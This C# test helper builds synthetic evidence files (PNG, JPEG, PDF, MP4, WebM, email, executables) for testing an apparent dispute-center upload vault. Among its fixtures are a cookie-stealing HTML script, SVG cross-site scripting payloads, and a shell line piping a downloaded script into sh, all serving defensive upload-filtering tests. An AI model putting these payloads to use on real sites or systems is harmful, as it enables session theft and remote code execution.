using System.Text;

namespace DisputeCenter.Testing;

/// <summary>Small synthetic files: just the headers and trailers the vault looks at, padded to a chosen size.</summary>
public static class EvidenceFiles
{
    private static readonly byte[] PngSignature = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A];
    private static readonly byte[] PngEnd = [0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82];

    /// <summary>A PNG of exactly <paramref name="size"/> bytes: signature, IHDR, one IDAT chunk of padding, IEND.</summary>
    public static byte[] Png(int size = 4000)
    {
        const int overhead = 8 + 25 + 12 + 12;
        var file = new List<byte>(size);
        file.AddRange(PngSignature);
        file.AddRange(Chunk("IHDR", [0, 0, 0, 16, 0, 0, 0, 16, 8, 2, 0, 0, 0]));
        file.AddRange(Chunk("IDAT", Pattern(size - overhead)));
        file.AddRange(PngEnd);
        return [.. file];
    }

    public static byte[] Jpeg(int size = 5000) => Concat([0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, .. "JFIF\0"u8], Pattern(size - 13), [0xFF, 0xD9]);

    public static byte[] Pdf(int size = 3000) =>
        Concat("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n"u8.ToArray(), Pattern(size - 32), "\ntrailer\n%%EOF\n"u8.ToArray());

    public static byte[] Mp4(int mediaBytes = 6000, string brand = "isom") =>
        Concat(Box("ftyp", [.. Encoding.ASCII.GetBytes(brand), 0, 0, 2, 0, .. "isommp41"u8]), Box("moov", Pattern(100)), Box("mdat", Pattern(mediaBytes)));

    public static byte[] WebM(string docType = "webm")
    {
        byte[] header = [0x42, 0x86, 0x81, 0x01, 0x42, 0x82, (byte)(0x80 | docType.Length), .. Encoding.ASCII.GetBytes(docType), 0x42, 0x87, 0x81, 0x04];
        return Concat([0x1A, 0x45, 0xDF, 0xA3, (byte)(0x80 | header.Length)], header, [0x18, 0x53, 0x80, 0x67, 0x01, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF], Pattern(4000));
    }

    public static byte[] Text(string text = "Chat with the seller, 3 March:\nSeller: the drill ships tomorrow.\nMe: ok, thanks! Ünïcödé is fine.\n") =>
        Encoding.UTF8.GetBytes(text);

    public static byte[] Eml() => Text(
        "Received: from mail.supplier.example (mail.supplier.example [192.0.2.10])\r\n\tby mx.example; Tue, 3 Mar 2026 10:00:00 +0000\r\n" +
        "From: Supplier <sales@supplier.example>\r\nTo: buyer@example.com\r\nSubject: Re: order T-1001\r\n" +
        "Date: Tue, 3 Mar 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
        "We confirm the price of 12.50 USD per unit.\r\n");

    public static byte[] Html() => Text("<!DOCTYPE html>\n<html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>\n");

    public static byte[] Svg() => Text("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"><circle r=\"4\"/></svg>\n");

    public static byte[] XmlSvg() => Text("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n");

    public static byte[] WindowsProgram() => Concat("MZ"u8.ToArray(), [0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00], Pattern(2000));

    public static byte[] LinuxProgram() => Concat([0x7F, 0x45, 0x4C, 0x46, 0x02, 0x01, 0x01, 0x00], Pattern(2000));

    public static byte[] Script() => Text("#!/bin/sh\ncurl http://example.invalid/x | sh\n");

    /// <summary>Deterministic, non-text, non-zero bytes.</summary>
    public static byte[] Pattern(int length)
    {
        var bytes = new byte[length];
        for (var i = 0; i < length; i++)
        {
            bytes[i] = (byte)((i * 31) + 7 + (i >> 9));
        }

        return bytes;
    }

    public static byte[] Concat(params byte[][] parts) => [.. parts.SelectMany(p => p)];

    private static byte[] Chunk(string type, byte[] data) =>
        Concat([(byte)(data.Length >> 24), (byte)(data.Length >> 16), (byte)(data.Length >> 8), (byte)data.Length], Encoding.ASCII.GetBytes(type), data, [0, 0, 0, 0]);

    private static byte[] Box(string type, byte[] data)
    {
        var size = data.Length + 8;
        return Concat([(byte)(size >> 24), (byte)(size >> 16), (byte)(size >> 8), (byte)size], Encoding.ASCII.GetBytes(type), data);
    }

    /// <summary>A JPEG that carries an Exif segment with a GPS position, as phones write them.</summary>
    public static byte[] JpegWithLocation(int size = 6000)
    {
        byte[] exif = [.. "Exif\0\0"u8, .. "GPSLatitude=-33.9249;GPSLongitude=18.4241"u8];
        byte[] app1 = [0xFF, 0xE1, (byte)((exif.Length + 2) >> 8), (byte)((exif.Length + 2) & 0xFF), .. exif];
        byte[] app0 = [0xFF, 0xE0, 0x00, 0x10, .. "JFIF\0"u8, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00];
        byte[] scan = [0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00];
        var body = Pattern(size - 2 - app0.Length - app1.Length - scan.Length - 2);
        return Concat([0xFF, 0xD8], app0, app1, scan, body, [0xFF, 0xD9]);
    }

    /// <summary>
    /// A valid MP4 of exactly <paramref name="totalBytes"/>, generated as it is read (nothing held in memory), so
    /// tests and benchmarks can send a 200 MB video.
    /// </summary>
    public static Stream Mp4Stream(long totalBytes)
    {
        var ftyp = Box("ftyp", [.. "isom"u8, 0, 0, 2, 0, .. "isommp41"u8]);
        var moov = Box("moov", Pattern(100));
        var mdatBytes = totalBytes - ftyp.Length - moov.Length;
        byte[] mdatHeader = [(byte)(mdatBytes >> 24), (byte)(mdatBytes >> 16), (byte)(mdatBytes >> 8), (byte)mdatBytes, .. "mdat"u8];
        return new GeneratedStream([.. ftyp, .. moov, .. mdatHeader], totalBytes);
    }
}
